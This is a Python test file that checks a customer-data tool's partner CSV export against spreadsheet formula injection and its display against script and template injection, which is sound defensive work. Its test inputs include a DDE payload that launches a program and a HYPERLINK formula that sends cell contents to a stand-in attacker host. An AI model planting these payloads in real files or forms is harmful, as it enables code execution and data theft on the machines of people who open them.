# SPDX-License-Identifier: Apache-2.0
"""Attack 19: formulas in files for partners. What a customer writes about themselves is no formula in the spreadsheet of whoever opens the file,
and comes back exactly in JSON."""

import csv
import io
import json
import os
import subprocess
import unittest

from support import binary
from partner_case import PartnerCase

FORMULAS = ("=1+1", "=cmd|'/c calc'!A0", "=HYPERLINK(\"https://attacker.example/?x=\"&A1,\"click\")", "+1+1", "-1+1", "-2+3+cmd|'/c calc'!A0", "@SUM(1+1)",
            "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\u00a0=1+1", "\u3000=1", "\"=1+1", "=\"\"", "=1\",\"=2", "=1;=2", "=1|2")
PLAIN = ("Budi", "O'Brien", "\"Budi\", said she", "a=1", "1+1", "a,b;c", "'=1+1", "\u041f\u0451\u0442\u0440", "\U0001f600")
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


class FormulaInjection(PartnerCase):
    def export(self, partner, form):
        done = subprocess.run([binary("pelanggan"), "--config", self.daemon.config, "partners", "export", str(partner), "--format", form],
                              capture_output=True, check=False)
        self.assertEqual(done.returncode, 0, done)
        return done.stdout.decode()

    def test_no_cell_begins_like_a_formula_and_json_is_exact(self):
        partner = self.add_partner("first_name", "phone", "email")
        (customer,) = self.query("SELECT customer_id FROM account WHERE user = 'budi'")[0]
        with self.writing() as database:
            self.say(database, customer, partner, 1)
        for value in FORMULAS + PLAIN:
            with self.subTest(value):
                with self.writing() as database:
                    database.execute("UPDATE customer SET first_name = ?, phone = '+628123456789' WHERE id = ?", (value, customer))
                text = self.export(partner, "csv")
                head, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
                self.assertEqual(head, ["first_name", "phone", "email"])
                self.assertEqual(len(rows), 1, "one value made more than one row: %r" % text)
                (row,) = rows
                self.assertEqual(row[0], ("'" if value in FORMULAS else "") + value)
                self.assertEqual(row[1], "'+628123456789")
                for cell in row:
                    self.assertFalse(cell.lstrip(" \"\u00a0\ufeff\u200b\u3000").startswith(STARTS), cell)
                (exact,) = json.loads(self.export(partner, "json"))["rows"]
                self.assertEqual((exact["first_name"], exact["phone"]), (value, "+628123456789"))

    def test_a_partners_own_words_are_shown_as_typed(self):
        for value in ("=1+1", "<script>alert(1)</script>", "{{name}}", "{{{purpose}}}", "[[Name]]", "{0}"):
            with self.subTest(value):
                partner = self.add_partner(name=value, purpose_en=value, contact=value)
                shown = self.get("p=partner&id=%d" % partner)
                self.assertEqual((shown["name"], shown["purpose_en"], shown["contact"]), (value, value, value))

    def test_a_file_is_never_written_over_another(self):
        partner = self.add_partner()
        name = os.path.join(self.daemon.folder, "partner.csv")
        before = self.query("SELECT count(*) FROM partner_export")
        with open(name, "w", encoding="utf-8") as file:
            file.write("mine")
        done = self.daemon.cli("partners", "export", str(partner), "--file", name, check=False)
        self.assertNotEqual(done.returncode, 0)
        with open(name, encoding="utf-8") as file:
            self.assertEqual(file.read(), "mine")
        self.assertEqual(self.query("SELECT count(*) FROM partner_export"), before, "nothing is handed on where it cannot be stored")


if __name__ == "__main__":
    unittest.main()
